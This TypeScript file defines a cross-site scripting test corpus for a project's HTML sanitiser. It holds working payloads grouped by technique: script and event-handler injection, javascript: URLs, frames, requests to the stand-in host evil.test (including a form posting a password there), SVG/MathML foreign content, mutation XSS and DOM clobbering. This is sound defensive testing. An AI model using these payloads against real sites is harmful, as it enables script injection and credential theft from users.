/** Attacks of one kind, as HTML that an author might put into a post. */
export interface XssTechnique {
  readonly technique: string;
  readonly payloads: readonly string[];
}

const ATTACKING_IMAGE = '<img src=x onerror=ran(1)>';
const VIDEO = 'https://www.youtube.com/embed/DatumBeam01';

/**
 * Attacks by HTML, written for this project. Each acts in Chromium where nothing sanitises it: it calls `ran(1)`, requests
 * `evil.test` or leaves the page. sanitise.browser.test.ts also tries every element and every attribute.
 */
export const xssCorpus: readonly XssTechnique[] = [
  {
    technique: 'script',
    payloads: [
      '<script>ran(1)</script>',
      '<p>Before<script>ran(1)</script> and after</p>',
      '<<script>ran(1)//<</script>',
      '<script src="data:text/javascript,ran(1)"></script>',
      '<script src="https://evil.test/x.js"></script>',
      '<table><script>ran(1)</script><tr><td>x</td></tr></table>',
      '<p><template shadowrootmode="open"><script>ran(1)</script></template></p>',
      '<body onload=ran(1)>',
    ],
  },
  {
    technique: 'handlers',
    payloads: [
      ATTACKING_IMAGE,
      '<IMG SRC=x\nOnErRoR\n=ran(1)>',
      '<img/src="x"/onerror=ran(1)>',
      '<img """><img src=x onerror=ran(1)>',
      '<img src=x onerror=&#114;&#97;&#110;&#40;&#49;&#41;>',
      "<img src=x onerror=eval(atob('cmFuKDEp'))>",
      '<p title="a>b" onclick=ran(1)>x</p>',
      "<p title='\"' onclick='ran(1)'>x</p>",
      '<a href="#part" onclick="ran(1);return false">x</a>',
      '<p data-video="" onclick="ran(1)"><a href="/blog">x</a></p>',
      '<p onfocus=ran(1) autofocus tabindex=0>x</p>',
      '<details open ontoggle=ran(1)><summary>x</summary></details>',
    ],
  },
  {
    technique: 'URLs',
    payloads: [
      '<a href="javascript:ran(1)">x</a>',
      '<a href="JaVaScRiPt:ran(1)" href="/blog">x</a>',
      '<a href=" &#14; java&#9;scr\nipt:ran(1)">x</a>',
      '<a href="javascript&colon;ran&lpar;1&rpar;">x</a>',
      '<a href="&#x6a;avascript://x%0Aran(1)">x</a>',
      '<p data-video=""><a href="javascript:ran(1)">x</a></p>',
      '<form action="javascript:ran(1)"><button>x</button></form>',
      '<form><button formaction="javascript:ran(1)">x</button></form>',
      '<svg><a xlink:href="javascript:ran(1)"><text y=9>x</text></a></svg>',
      '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
      '<base href="https://evil.test/"><img src="x.png">',
      '<form action="https://evil.test/"><input name="password"><button>x</button></form>',
    ],
  },
  {
    technique: 'frames',
    payloads: [
      '<iframe src="https://evil.test/"></iframe>',
      '<iframe src="javascript:parent.ran(1)"></iframe>',
      '<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>',
      `<iframe src="${VIDEO}" srcdoc="<script>parent.ran(1)</script>"></iframe>`,
      `<iframe src="javascript:parent.ran(1)//${VIDEO}"></iframe>`,
      '<iframe src="https://www.youtube.com.evil.test/embed/DatumBeam01"></iframe>',
      '<object data="https://evil.test/"></object>',
      '<embed src="https://evil.test/">',
    ],
  },
  {
    technique: 'styles and requests',
    payloads: [
      '<p style="background:url(https://evil.test/x.png)">x</p>',
      '<style>@import "https://evil.test/x.css";</style>',
      '<link rel="stylesheet" href="https://evil.test/x.css">',
      '<table background="https://evil.test/x.png"><tr><td>x</td></tr></table>',
      '<img srcset="https://evil.test/x 1x" src="/x.png">',
      '<picture><source srcset="https://evil.test/x.png"><img src="/x.png"></picture>',
      '<video poster="https://evil.test/x.png"></video>',
      '<svg><image href="https://evil.test/x.png" /></svg>',
      '<input type="image" src="https://evil.test/x.png">',
    ],
  },
  {
    technique: 'foreign content',
    payloads: [
      '<svg onload=ran(1)>',
      '<svg><script>&#114;an(1)</script></svg>',
      '<svg><animate onbegin=ran(1) attributeName=x dur=1s></animate></svg>',
      `<svg><foreignObject>${ATTACKING_IMAGE}</foreignObject></svg>`,
      `<math><mtext>${ATTACKING_IMAGE}</mtext></math>`,
    ],
  },
  {
    technique: 'mutation',
    payloads: [
      `<form><math><mtext></form><form><mglyph><style></math>${ATTACKING_IMAGE}`,
      `<form><input><math><mtext></form><form><malignmark><style><a id="</style>${ATTACKING_IMAGE}">`,
      `<math><annotation-xml encoding="text/html"><p><style><!--</style>${ATTACKING_IMAGE}--></p></annotation-xml></math>`,
      `<svg></p><style><a id="</style>${ATTACKING_IMAGE}">`,
      `<noscript><p title="</noscript>${ATTACKING_IMAGE}">`,
      `<textarea><p title="</textarea>${ATTACKING_IMAGE}">`,
      `<select><style><p title="</style></select>${ATTACKING_IMAGE}"></select>`,
      `<table>${ATTACKING_IMAGE}<tr><td>x</td></tr></table>`,
    ],
  },
  {
    technique: 'names that a sanitiser looks up',
    payloads: [
      '<form onclick=ran(1)><input name="attributes"><input name="nodeName">x</form>',
      '<form onclick=ran(1)><input name="removeAttribute"><input name="parentNode">x</form>',
      `<img name="createElement" src="/x.png">${ATTACKING_IMAGE}`,
    ],
  },
];
